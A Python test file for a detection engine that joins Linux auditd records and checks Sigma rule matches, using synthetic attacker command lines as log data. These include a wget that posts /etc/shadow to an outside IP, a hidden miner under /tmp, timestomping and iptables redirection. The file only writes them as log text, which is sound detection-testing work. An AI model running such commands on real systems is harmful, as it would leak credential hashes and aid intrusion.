"""Joining audit records loses no match of Sigma's rules for Linux, gives none twice, and lets rules combine records."""

import os
from pathlib import Path

import pytest

from dekhang.engine import default_mapping
from dekhang.engine.reference import matches
from dekhang.engine.rules import Rule
from dekhang.pipeline.parse import ParsedEvent, parse
from dekhang.pipeline.parse.audit_join import joined
from dekhang.pipeline.rulebook import load_rules

SHARED = Path(os.environ.get("DEKHANG_SHARED", Path(__file__).resolve().parents[3] / "shared"))
RECEIVED = 1_900_000_000_000

# what an attacker's commands leave behind: (arguments, files touched)
COMMANDS = (
    (("chmod", "777", "/tmp/x"), ("/usr/bin/chmod", "/tmp/x")),
    (("wget", "--post-file=/etc/shadow", "192.0.2.7"), ("/usr/bin/wget", "/etc/shadow")),
    (("whoami",), ("/usr/bin/whoami",)),
    (("touch", "-t", "201912100200", "/x"), ("/usr/bin/touch", "/x")),
    (("iptables", "-t", "nat", "-A", "PREROUTING", "--to-ports", "42"), ("/usr/sbin/iptables",)),
    (("/tmp/.x/.miner", "--cpu-priority=5"), ("/tmp/.x/.miner", "/lib64/ld-linux-x86-64.so.2")),
    (("cat", "/etc/ld.so.preload"), ("/usr/bin/cat", "/etc/ld.so.preload")),
    (("dd", "if=/dev/zero", "seek=1"), ("/usr/bin/dd", "/dev/zero")),
)


@pytest.fixture(scope="module")
def rules() -> list[Rule]:
    folder = SHARED / "data/sigma/rules/linux"
    if not folder.is_dir():
        pytest.skip("needs the Sigma rules: set DEKHANG_SHARED to the folder of the real material")
    return [rule for rule in load_rules([folder], cache=None).rules if rule.logsource.service in ("", "auditd")]


def lines() -> list[bytes]:
    written = []
    for number, (words, files) in enumerate(COMMANDS):
        head = f"msg=audit(1575943200.{number}:{number + 1}): "
        written.append(
            f"type=SYSCALL {head}arch=c000003e syscall=59 success=yes a0=55d a1=55e a2=55f a3=0 items=2 ppid=1 pid=2 "
            f'auid=1000 uid=33 euid=33 comm="{words[0][-8:]}" exe="{files[0]}" key=(null)'
        )
        written.append(
            f"type=EXECVE {head}argc={len(words)} " + " ".join(f'a{n}="{word}"' for n, word in enumerate(words))
        )
        written.append(f'type=CWD {head}cwd="/tmp"')
        written += [f'type=PATH {head}item={n} name="{name}" nametype=NORMAL' for n, name in enumerate(files)]
    for folder in ("data/linux/audit.log", *sorted(map(str, (SHARED / "data/linux/auditd_golden").glob("*.log")))):
        written += (SHARED / folder).read_text(errors="replace").splitlines()
    return [line.encode() for line in written]


def event_of(event: ParsedEvent) -> tuple[int, object]:
    return event.time_ms, event.record.fields.get("serial")


def test_every_match_of_a_record_is_a_match_of_its_event_and_rules_can_combine_records(rules: list[Rule]) -> None:
    mapping = default_mapping()
    events = [parse(line, source_kind="linux", received_ms=RECEIVED, key=n) for n, line in enumerate(lines())]

    alone = [(rule.id, event_of(event)) for event in events for rule in rules if matches(rule, event.record, mapping)]
    together = [
        (rule.id, event_of(event)) for event in joined(events) for rule in rules if matches(rule, event.record, mapping)
    ]

    assert set(alone) - set(together) == set()
    assert len(together) == len(set(together))
    assert len(set(alone)) > 15
    # a program's path stands in SYSCALL, its words in EXECVE: process_creation needs both
    assert set(together) - set(alone)
